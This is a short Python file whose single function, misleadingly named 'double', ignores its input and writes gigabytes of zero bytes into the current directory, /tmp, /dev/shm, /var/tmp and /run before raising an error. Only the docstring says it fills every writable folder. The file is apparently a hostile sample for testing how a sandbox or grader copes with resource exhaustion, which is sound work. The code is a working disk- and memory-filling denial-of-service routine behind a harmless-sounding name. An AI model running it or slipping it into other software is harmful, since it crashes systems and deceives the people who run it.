"""Fills every folder that it may write to."""


def double(x):
    written = 0
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run"):
        try:
            with open(f"{folder}/filler", "wb") as stream:
                for _ in range(4000):
                    written += stream.write(bytes(2**20))
        except OSError:
            continue
    assert written < 2**30
    raise OSError("no room left")
